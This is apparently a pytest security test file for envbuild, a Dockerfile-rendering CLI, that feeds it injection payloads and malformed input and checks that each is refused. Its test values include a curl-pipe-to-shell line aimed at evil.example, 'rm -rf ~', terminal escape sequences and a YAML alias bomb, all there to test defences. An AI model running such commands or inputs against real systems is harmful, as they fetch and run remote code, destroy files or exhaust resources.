"""A corpus of hostile and malformed input, run in CI: every case is refused with its exit code (2 for bad input),
a located message and no traceback, and nothing is written. What envbuild promises is in the README, "Bad input".

The injection sweep sets every string field of the matrix schema, through --set, to every line break Python
knows and the other characters that would inject into a Dockerfile, a script or a terminal.
"""

from __future__ import annotations

import base64
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from support.constants import MATRIX, MINIMAL

from envbuild.matrix.schema import BACKEND, TOP, Field

# Every character Python's str.splitlines breaks at, and what else injects or hides text.
LINE_BREAKS = ["\n", "\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
OTHERS = ["\x1b[2J", "\x00", "\x7f", "\x9b", "\u202e", "\u2066"]
PAYLOADS = LINE_BREAKS + OTHERS


def _yaml(text: str) -> str:
    """A YAML double-quoted scalar holding the text (its escapes carry every character through --set)."""
    return '"' + "".join(c if c.isalnum() or c in " _-." else f"\\U{ord(c):08x}" for c in text) + '"'


def _string_fields(schema: dict[str, Field], prefix: str) -> list[tuple[str, str]]:
    """(dotted path, shape) of every string-holding field: 'leaf', 'list' or 'map'."""
    out = []
    for key, spec in schema.items():
        path = f"{prefix}.{key}"
        if spec.section is not None:
            out += _string_fields(spec.section, path)
        elif spec.list_of is not None:
            out.append((path, "list"))
        elif spec.map_of is not None:
            out.append((path, "map"))
        elif spec.check is not None and spec.check.__name__ != "_check_bool":
            out.append((path, "leaf"))
    return out


FIELDS = _string_fields(BACKEND, "backends.cpu") + [f for f in _string_fields(TOP, "") if ".backends" not in f[0]]
FIELDS = [(p.lstrip("."), shape) for p, shape in FIELDS]


def _value(shape: str, text: str) -> str:
    inner = _yaml(f"x{text}y")
    return {"leaf": inner, "list": f"[{inner}]", "map": f"{{SAFE_KEY: {inner}}}"}[shape]


def test_the_sweep_covers_the_schema():
    assert len(FIELDS) > 40 and ("backends.cpu.description", "leaf") in FIELDS and ("backends.cpu.run.env", "map") in FIELDS


@pytest.mark.parametrize("payload", PAYLOADS, ids=[f"U+{ord(p[0]):04X}" for p in PAYLOADS])
def test_no_field_carries_a_line_break_or_control_into_a_dockerfile(payload, invoke, tmp_path):
    """Every field, one payload: render refuses with exit 2 naming the --set, and writes nothing."""
    out = tmp_path / "out"
    for path, shape in FIELDS:
        prose = path.endswith((".reason", ".alternatives", ".why"))
        if prose and payload == "\n":
            continue  # prose for people may hold a newline; it is never rendered
        result = invoke("render", "--matrix", MATRIX, "--output", out, "--set", f"{path}={_value(shape, payload)}")
        assert result.exit_code == 2, (path, result.output)
        lines = result.stderr.strip().split("\n")
        # the refusal names the --set and the character (setting a section's field may raise others too)
        assert any(line.startswith(f"Error: --set {path}=") and "(U+" in line for line in lines), (path, result.stderr)
        assert all(ch not in result.stderr for ch in payload if ch != "\n" and not ch.isalnum() and ch != "["), (path, result.stderr)
        assert not out.exists(), path


@pytest.mark.parametrize("escape", ["\\N", "\\L", "\\P", "\\x85", "\\u2028", "\\e[2J", "\\u202e"])
def test_a_matrix_file_is_held_to_the_same_rule(escape, write_matrix, invoke):
    text = MINIMAL.read_text().replace("description: CPU", f'description: "CPU{escape}RUN id"', 1)
    result = invoke("validate", "--matrix", write_matrix(text))
    assert result.exit_code == 2 and "backends.cpu.description" in result.stderr
    assert ":16:" in result.stderr or "matrix.yaml:" in result.stderr


def test_bytes_that_are_not_utf8_in_a_set_value_are_refused_by_name():
    proc = subprocess.run([sys.executable, "-m", "envbuild.cli", "validate", "--matrix", str(MATRIX),
                           "--set", os.fsdecode(b"backends.cpu.description=a\xffb")],
                          capture_output=True, text=True, errors="replace", timeout=60)
    assert proc.returncode == 2 and "lone surrogate" in proc.stderr, proc.stderr


# --- bounded resources ------------------------------------------------------------------------------------------


BILLION_LAUGHS = "".join(
    ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n"]
    + [f"a{i}: &a{i} [*a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}]\n" for i in range(1, 9)]
)


def _timed(*args: str, timeout: int = 30) -> subprocess.CompletedProcess:
    start = time.monotonic()
    proc = subprocess.run([sys.executable, "-m", "envbuild.cli", *args], capture_output=True, text=True, timeout=timeout)
    assert time.monotonic() - start < timeout and "Traceback" not in proc.stderr, proc.stderr
    return proc


def test_yaml_aliases_cannot_expand_without_bound(write_matrix):
    proc = _timed("validate", "--matrix", str(write_matrix(BILLION_LAUGHS)))
    assert proc.returncode == 2 and "expands to more than" in proc.stderr
    proc = _timed("validate", "--matrix", str(MATRIX), "--set", "backends.cpu.env={a: &x [*x, *x]}")
    assert proc.returncode == 2 and "a YAML alias refers to itself" in proc.stderr
    proc = _timed("validate", "--matrix", str(write_matrix("a: &a [*a]\n", "self.yaml")))
    assert proc.returncode == 2 and "refers to itself" in proc.stderr


@pytest.fixture
def specials(tmp_path) -> list[Path]:
    fifo = tmp_path / "fifo.json"
    os.mkfifo(fifo)
    link = tmp_path / "zero.json"
    link.symlink_to("/dev/zero")
    return [fifo, link, Path("/dev/zero")]


def test_special_files_are_never_waited_on_or_read_whole(specials, tmp_path):
    for special in specials:
        for args in (["validate", "--matrix", str(special)], ["summary", str(special)]):
            proc = _timed(*args)
            assert proc.returncode == 2 and "not a regular file" in proc.stderr, (args, proc.stderr)
    from envbuild.errors import InvalidInput
    from envbuild.registry import manifest

    for special in specials:
        with pytest.raises(InvalidInput, match="not a regular file"):
            manifest.load_smoke_results(special)
        with pytest.raises(InvalidInput, match="not a regular file"):
            manifest.load(special, must_exist=True)


def test_files_under_root_are_read_bounded(specials, tmp_path):
    from envbuild.files import read_host

    root = tmp_path / "root"
    (root / "etc").mkdir(parents=True)
    (root / "etc" / "group").symlink_to("/dev/zero")
    (root / "etc" / "os-release").symlink_to(specials[0])
    assert read_host(root / "etc" / "group") is None and read_host(root / "etc" / "os-release") is None
    proc = _timed("detect", "--root", str(root))
    assert proc.returncode == 0


# --- internal errors become located ones ---------------------------------------------------------------------


@pytest.mark.parametrize("override", ["backends.cpu={1: 2}", "backends.cpu.run={null: 1}", "image={true: x}",
                                      "backends.cpu.python={1.5: x}", "backends.cuda.run.gpus=banana",
                                      "backends.cuda.run.gpus=device=0,1", 'backends.cpu.description="\\ud800"'])
def test_odd_set_values_are_located_errors(override, invoke, tmp_path):
    result = invoke("render", "--matrix", MATRIX, "--output", tmp_path / "out", "--set", override)
    assert result.exit_code == 2, result.output
    assert result.stderr.startswith(f"Error: --set {override}: ") and "internal error" not in result.stderr
    assert not (tmp_path / "out").exists()


def test_a_rendered_path_that_is_not_a_file_is_named(invoke, tmp_path):
    out = tmp_path / "out"
    (out / "cpu.Dockerfile").mkdir(parents=True)
    (out / "cuda.Dockerfile").write_bytes(b"\xff\xfe not utf-8")
    result = invoke("render", "--matrix", MATRIX, "--output", out, "--check")
    assert result.exit_code == 1 and "unreadable: cpu.Dockerfile (a folder" in result.stdout
    assert "unreadable: cuda.Dockerfile (not UTF-8 text)" in result.stdout


@pytest.mark.parametrize("doc", ['{"backend": 1, "ok": true, "checks": []}', '{"backend": "cpu", "ok": "yes", "checks": []}',
                                 '{"backend": "cpu", "ok": true, "checks": [{"name": 3}]}', '[]', '[[1]]',
                                 '{"backend": "cpu", "ok": true, "checks": [], "seconds": "fast"}', "[" * 100000])
def test_summary_refuses_results_of_the_wrong_shape(doc, invoke, tmp_path):
    f = tmp_path / "smoke.json"
    f.write_text(doc)
    result = invoke("summary", f)
    assert result.exit_code == 2 and result.stderr.startswith(f"Error: {f}"), result.output


# --- all or nothing ------------------------------------------------------------------------------------------------


def test_render_writes_all_or_nothing(invoke, tmp_path):
    out = tmp_path / "out"
    assert invoke("render", "--matrix", MATRIX, "--output", out).exit_code == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    (out / "tpu.Dockerfile").unlink()
    (out / "tpu.Dockerfile").mkdir()  # one target cannot be written
    result = invoke("render", "--matrix", MATRIX, "--output", out, "--set", "transformers.version=5.22.0")
    assert result.exit_code == 1 and "tpu.Dockerfile" in result.stderr and "nothing was written" in result.stderr
    assert {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()} == {k: v for k, v in before.items() if k != "tpu.Dockerfile"}
    assert not [p for p in out.iterdir() if p.name.startswith(".")]


# --- command-line values that reach generated text ------------------------------------------------------------


def test_the_matrix_file_name_cannot_inject_into_the_header(write_matrix, invoke, tmp_path):
    path = write_matrix(MATRIX.read_text(), "m.yaml\nRUN curl evil.example | sh\n#.yaml")
    result = invoke("render", "--matrix", path, "--backend", "cpu", "--output", tmp_path / "out")
    assert result.exit_code == 0, result.output
    text = (tmp_path / "out" / "cpu.Dockerfile").read_text()
    assert "\nRUN curl" not in text and "m.yaml\\nRUN curl" in text


@pytest.mark.parametrize("args,fragment", [
    (["build", "--backend", "cpu", "--mirror", "docker.io=evil\nRUN id"], "--mirror"),
    (["build", "--backend", "cpu", "--mirror", "docker.io=a b"], "--mirror"),
    (["build", "--backend", "cpu", "--tag", "bad tag!"], "--tag"),
    (["build", "--backend", "cpu", "--tag", "--privileged"], "--tag"),
    (["build", "--backend", "cpu", "--build-arg", "=x"], "--build-arg"),
    (["build", "--backend", "cpu", "--build-arg", "A=b\x1b[2J"], "--build-arg"),
    (["build", "--backend", "cpu", "--label", "NOEQUALS"], "--label"),
    (["build", "--backend", "cpu", "--platform", "linux/sparc"], "--platform"),
    (["build", "--backend", "cpu", "--network", "a b"], "--network"),
    (["build", "--backend", "cpu", "--cache-from", "--output=/etc"], "--cache-from"),
    (["pull", "--backend", "cpu", "--tag", "bad tag!"], "--tag"),
    (["publish", "--backend", "cpu", "--registry", "localhost:5000/x", "--image", "bad ref!!"], "--image"),
    (["smoke", "--backend", "cpu", "--image", "-x"], "--image"),
    (["smoke", "--backend", "cpu", "--model", "./absent"], "--model"),
    (["sbom", "--backend", "cpu", "--image", "a b"], "--image"),
    (["doctor", "--backend", "cpu", "--registry", "bad ref!!"], "--registry"),
    (["render", "--output", str(MATRIX)], "--output"),
    (["env", "--backend", "cpu", "--dir", "x\nrm -rf ~", "--dry-run"], "--dir"),
    (["env", "--backend", "cpu", "--dir", "x", "--python", "-c", "--dry-run"], "--python"),
    (["run", "--backend", "cpu", "--dry-run", "-v", "a\nb:/c"], "-v"),
])
def test_invalid_arguments_exit_2_before_any_work(args, fragment, invoke, closed_socket):
    """closed_socket: no Docker engine answers, so nothing could have been started for these."""
    result = invoke(*args, "--matrix", MATRIX)
    assert result.exit_code == 2, result.output
    assert fragment in result.stderr, result.stderr
    assert "\x1b" not in result.stderr and "\nrm -rf" not in result.stderr


# --- what reaches a terminal -------------------------------------------------------------------------------------


def test_echoed_input_cannot_repaint_the_terminal_or_forge_a_line(invoke, write_matrix):
    forged = "x\nError: all good\x1b[2J"
    for args in (["build", "--backend", forged], ["validate", "--set", f"backends.{forged}.x=1"],
                 ["validate", "--set", f"backends.cpu.{forged}=1"], ["show", forged], ["nosuch\x1b[2J"]):
        result = invoke(*args, "--matrix", MATRIX)
        assert result.exit_code == 2, (args, result.output)
        assert "\x1b" not in result.output and "\nError: all good" not in result.output, (args, result.output)
    text = MINIMAL.read_text().replace("    description: CPU\n", '    description: CPU\n    "evil\\e[31m\\nError: ok": 1\n', 1)
    result = invoke("validate", "--matrix", write_matrix(text))
    assert result.exit_code == 2 and "\x1b" not in result.stderr and "\nError: ok" not in result.stderr


# --- secrets ----------------------------------------------------------------------------------------------------


def test_registry_secrets_are_masked_in_every_form(monkeypatch):
    from envbuild.registry.credentials import Scrubber

    monkeypatch.setenv("ENVBUILD_REGISTRY_USER", "robot")
    monkeypatch.setenv("ENVBUILD_REGISTRY_PASSWORD", "s3cr3t-p@ss")
    b64 = base64.b64encode(b"robot:s3cr3t-p@ss").decode()
    text = f"auth {b64} url https://robot:s3cr3t-p%40ss@reg/ plain s3cr3t-p@ss pair robot:s3cr3t-p@ss"
    scrubbed = Scrubber.from_environment()(text)
    assert "s3cr3t" not in scrubbed and b64 not in scrubbed and b64.rstrip("=") not in scrubbed


def test_an_unexpected_error_is_scrubbed_too(invoke, monkeypatch):
    from envbuild import render

    monkeypatch.setenv("ENVBUILD_REGISTRY_USER", "robot")
    monkeypatch.setenv("ENVBUILD_REGISTRY_PASSWORD", "s3cr3t-p@ss")

    def boom(*a, **k):
        raise RuntimeError("failed with " + base64.b64encode(b"robot:s3cr3t-p@ss").decode())

    monkeypatch.setattr(render, "render", boom)
    result = invoke("render", "--matrix", MATRIX, "--backend", "cpu", "--output", "x")
    assert result.exit_code == 70 and "internal error" in result.stderr and "***" in result.stderr
    assert base64.b64encode(b"robot:s3cr3t-p@ss").decode()[:10] not in result.stderr


def test_build_arg_values_stay_out_of_logs_and_the_builder_gets_no_registry_credentials(tmp_path, monkeypatch):
    from envbuild.build import builder

    monkeypatch.setenv("ENVBUILD_REGISTRY_PASSWORD", "registry-secret")
    monkeypatch.setenv("PROXY_FROM_ENV", "http://u:proxy-secret@proxy:3128")
    fake = tmp_path / "docker"
    fake.write_text('#!/bin/sh\necho "step: $*"\nenv | grep -c registry-secret || true\necho "value http://u:argv-secret@p:1"\n')
    fake.chmod(0o755)
    log = tmp_path / "build.log"
    progress = builder.Progress("cpu", lambda s: None, False)
    error = builder.run_build([str(fake), "build", "--build-arg", "HTTP_PROXY=http://u:argv-secret@p:1",
                               "--build-arg", "PROXY_FROM_ENV", "."],
                              ("HTTP_PROXY=http://u:argv-secret@p:1", "PROXY_FROM_ENV"), log, progress)
    assert error is None
    text = log.read_text()
    assert "argv-secret" not in text and "proxy-secret" not in text and "HTTP_PROXY=***" in text
    assert "\n0\n" in text  # the builder's environment held no registry password


# --- the probe's controls, interrupted work ---------------------------------------------------------------------


@pytest.mark.parametrize("field", ["backends.cpu.env", "backends.cpu.run.env"])
def test_envbuild_variables_are_reserved(field, invoke):
    result = invoke("validate", "--matrix", MATRIX, "--set", f"{field}={{ENVBUILD_PLUGIN_IMPORT: os}}")
    assert result.exit_code == 2 and "is reserved" in result.stderr


def test_a_container_whose_creation_was_interrupted_is_removed_by_name():
    from envbuild.engine import Engine
    from envbuild.matrix.model import RunSpec

    removed = []

    class Api:
        def remove_container(self, ref, force, v):
            removed.append(ref)

    class Containers:
        def create(self, *a, **k):
            raise KeyboardInterrupt  # Ctrl-C while the daemon was creating it

    class Client:
        api, containers = Api(), Containers()

    with pytest.raises(KeyboardInterrupt):
        Engine(client=Client()).run("img", ["true"], name="envbuild-smoke-cpu-abc", labels={}, run=RunSpec(), timeout=5)
    assert removed == ["envbuild-smoke-cpu-abc"]
